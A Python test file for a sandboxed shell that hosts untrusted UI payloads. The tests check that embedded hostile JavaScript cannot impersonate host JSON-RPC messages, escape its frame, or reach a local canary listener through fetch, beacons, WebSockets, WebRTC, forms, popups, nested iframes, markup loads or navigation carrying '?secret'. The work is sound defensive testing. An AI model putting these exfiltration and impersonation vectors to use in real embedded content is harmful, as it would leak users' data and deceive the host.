"""What a hostile payload can reach from its frame: nothing of the host, and no network.

Defence in depth, tried in one browser: what holds here is not proof for another.
"""

from typing import Any

import pytest

from connecta.views.shell import SHELL_HTML
from tests.apps.canary import Canary, listening_canary
from tests.apps.driver import NONE, Complaints, Driver, Report, Scenario, Until
from tests.apps.payloads import SHOWN, payload, trying

IMPERSONATION = """
  const asked = [
    { jsonrpc: "2.0", id: 1, method: "ui/message", params: { role: "user", content: [{ type: "text", text: "x" }] } },
    { jsonrpc: "2.0", id: 2, method: "ui/open-link", params: { url: "https://example.com/" } },
    { jsonrpc: "2.0", id: 3, method: "tools/call", params: { name: "get_result", arguments: { id: "v_x" } } },
  ];
  const fed = [
    { jsonrpc: "2.0", method: "ui/notifications/tool-cancelled", params: {} },
    { jsonrpc: "2.0", method: "ui/notifications/tool-result", params: { content: [] } },
    { jsonrpc: "2.0", method: "ui/notifications/host-context-changed", params: { theme: "dark" } },
    { jsonrpc: "2.0", id: 9, method: "ui/resource-teardown", params: {} },
  ];
  for (const message of [...asked, ...fed]) {
    parent.postMessage(message, "*");
    parent.parent.postMessage(message, "*");
    top.postMessage(message, "*");
  }
"""

LEAKS = """
  const http = "http://127.0.0.1:$TCP/";
  const loaded = (element, name) => new Promise((resolve, reject) => {
    element.addEventListener("load", () => resolve("loaded"));
    element.addEventListener("error", () => reject(new Error(name)));
    document.body.append(element);
  });
  await attempt("fetch", () => fetch(http + "fetch", { mode: "no-cors" }).then(() => "sent"));
  await attempt("image", () => loaded(Object.assign(new Image(), { src: http + "image" })));
  await attempt("script", () => loaded(Object.assign(document.createElement("script"), { src: http + "script" })));
  await attempt("style", () => loaded(Object.assign(document.createElement("link"),
    { rel: "stylesheet", href: http + "style" })));
  await attempt("beacon", () => navigator.sendBeacon(http + "beacon") && "queued");
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket("ws://127.0.0.1:$TCP/");
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("refused"));
  }));
  await attempt("events", () => new Promise((resolve, reject) => {
    new EventSource(http + "events").onerror = () => reject(new Error("refused"));
  }));
  await attempt("worker", () => new Worker("data:text/javascript,fetch('" + http + "worker')") && "started");
  await attempt("form", () => {
    const form = Object.assign(document.createElement("form"), { action: http + "form", method: "post" });
    document.body.append(form);
    form.submit();
    return "submitted";
  });
  await attempt("popup", () => String(window.open(http + "popup")));
  await attempt("rtc", async () => {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: "stun:127.0.0.1:$UDP" },
      { urls: "turn:127.0.0.1:$TCP?transport=tcp", username: "u", credential: "p" },
    ] });
    peer.createDataChannel("d");
    await peer.setLocalDescription(await peer.createOffer());
    return "offered";
  });
  await attempt("rtc of a child", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return typeof frame.contentWindow.RTCPeerConnection;
  });
  await attempt("rtc of a written child", () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:$UDP' }] })<" + "/script>";
    document.body.append(frame);
    return "framed";
  });
  await attempt("parsed child", () => {
    const inside = document.createElement("div");
    inside.innerHTML = "<iframe srcdoc='<script>new RTCPeerConnection()<" + "/script>'></iframe>";
    document.body.append(inside);
    return "parsed";
  });
"""

MARKUP = """
  <link rel="stylesheet" href="http://127.0.0.1:$TCP/sheet"><link rel="preconnect" href="http://127.0.0.1:$TCP/">
  <link rel="prefetch" href="http://127.0.0.1:$TCP/prefetch"><link rel="dns-prefetch" href="http://127.0.0.1:$TCP/">
  <meta http-equiv="link" content="<http://127.0.0.1:$TCP/>; rel=preload; as=script">
  <style>@import url(http://127.0.0.1:$TCP/import); body { background: url(http://127.0.0.1:$TCP/background) }
  @font-face { font-family: f; src: url(http://127.0.0.1:$TCP/font) } p { font-family: f }</style>
  <p>text</p><img src="http://127.0.0.1:$TCP/img" alt=""><video src="http://127.0.0.1:$TCP/video" autoplay></video>
  <iframe src="http://127.0.0.1:$TCP/frame"></iframe><object data="http://127.0.0.1:$TCP/object"></object>
  <embed src="http://127.0.0.1:$TCP/embed"><svg><image href="http://127.0.0.1:$TCP/svg"/></svg>
  <iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:$UDP'}]})</script>"></iframe>
"""

CARELESS = """<!doctype html><body><script>
  addEventListener("message", ({ data }) => {
    if (data.id === 1) parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized", params: {} }, "*");
  });
  parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/initialize", params: {
    appInfo: { name: "careless", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" } }, "*");
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:$UDP" }] });
  peer.createDataChannel("d");
  peer.setLocalDescription().then(() => document.body.append("offered"));
</script>"""


def play(host: Driver, result: dict[str, object], until: Until | None = None) -> Report:
    return host.play(Scenario(until=until or Until(text=SHOWN), shell=SHELL_HTML, result=result))


def at(canary: Canary, text: str) -> str:
    tcp, udp = canary.ports
    return text.replace("$TCP", str(tcp)).replace("$UDP", str(udp))


def test_a_payload_cannot_speak_as_the_shell_nor_as_the_host(host: Driver) -> None:
    """U6: what it posts to the proxy and the host is refused, and what it posts to the shell is not the protocol."""
    report = play(host, trying(IMPERSONATION))
    assert report.executed == []
    assert [len(report.complaints.refused_by_host), len(report.complaints.refused_by_proxy)] == [7, 7]
    assert report.complaints == Complaints(
        refused_by_host=report.complaints.refused_by_host, refused_by_proxy=report.complaints.refused_by_proxy
    )
    assert [message for message in report.messages if not message.startswith("ui/notifications/")] == ["ui/initialize"]
    assert (report.payload.text, report.payload.colorScheme) == (SHOWN, "light")


def test_the_shell_listens_to_its_parent_alone(host: Driver) -> None:
    """U6: any other window may post to it, and nothing comes of it."""
    strange: list[dict[str, Any]] = [
        {"jsonrpc": "2.0", "method": "ui/notifications/host-context-changed", "params": {"theme": "dark"}},
        {"jsonrpc": "2.0", "id": 9, "method": "ui/resource-teardown", "params": {}},
    ]
    shown = Until(text="honest")
    report = host.play(Scenario(until=shown, shell=SHELL_HTML, result=payload("<p>honest</p>"), strange=strange))
    assert report.complaints == NONE
    assert (report.payload.text, report.payload.colorScheme) == ("honest", "light")


def test_the_shell_takes_nothing_but_a_number_from_the_payload(host: Driver) -> None:
    """U6."""
    script = """
      const heights = [null, NaN, Infinity, { height: 900 }, [900], "900"]; // the last one posted counts
      const post = () => { for (const each of heights) parent.postMessage(each, "*"); requestAnimationFrame(post); };
      post();
    """
    report = play(host, trying(script))
    assert report.complaints == NONE
    assert max(report.sizes) < 200


def test_the_number_is_bounded_by_what_the_host_gives(host: Driver) -> None:
    """U6."""
    result = trying("const post = () => { parent.postMessage(1e9, '*'); requestAnimationFrame(post); }; post();")
    report = host.play(Scenario(until=Until(height=800), shell=SHELL_HTML, result=result, max_height=800))
    assert report.complaints == NONE
    assert (report.payload.text, max(report.sizes)) == (SHOWN, 800)


def test_nothing_a_payloads_script_tries_reaches_the_network(host: Driver) -> None:
    """U6."""
    with listening_canary() as canary:
        report = play(host, trying(at(canary, LEAKS)))
        assert canary.arrived() == []
    outcomes = dict(line.split(": ", 1) for line in report.payload.text.splitlines()[1:])
    roads = {name: error for name, error in outcomes.items() if name.startswith(("rtc", "parsed"))}
    assert roads == {
        "rtc": "TypeError",
        "rtc of a child": "SecurityError",
        "rtc of a written child": "TypeError",
        "parsed child": "TypeError",
    }
    assert (report.executed, report.complaints.popups, report.complaints.page) == ([], [], [])


def test_nothing_a_payloads_markup_names_is_loaded(host: Driver) -> None:
    """U6."""
    with listening_canary() as canary:
        report = play(host, payload(at(canary, MARKUP)), Until(text="text"))
        assert canary.arrived() == []
    assert (report.executed, report.complaints.popups, report.complaints.page) == ([], [], [])


@pytest.mark.parametrize(
    "script",
    [
        "location.href = 'http://127.0.0.1:$TCP/?secret';",
        "addEventListener('load', () => { location.href = 'http://127.0.0.1:$TCP/?secret'; });",
    ],
    ids=["while it is read", "after it was loaded"],
)
def test_a_payload_that_navigates_away_sends_nothing_and_is_closed_with_a_line(host: Driver, script: str) -> None:
    """U6. Chromium opens a connection for a navigation before it asks the policy; nothing is ever sent on it."""
    with listening_canary() as canary:
        report = play(host, trying(at(canary, script)), Until("view", text="left its page"))
        assert set(canary.arrived()) <= {"tcp"}
    assert "payload" not in report.frames
    assert report.executed == []


def test_a_payload_that_refreshes_itself_stays_where_it_is(host: Driver) -> None:
    """U6."""
    with listening_canary() as canary:
        refresh = at(canary, '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:$TCP/?secret"><p>stays</p>')
        report = play(host, payload(refresh), Until(text="stays"))
        assert canary.arrived() == []
    assert (report.payload.text, report.complaints) == ("stays", NONE)


def test_the_canary_hears_a_view_that_takes_no_such_care(host: Driver) -> None:
    """The same host and the same policy: without the shell's care WebRTC goes out, and these tests would see it."""
    with listening_canary() as canary:
        host.play(Scenario(until=Until("view", text="offered"), shell=at(canary, CARELESS)))
        assert "udp" in canary.arrived()
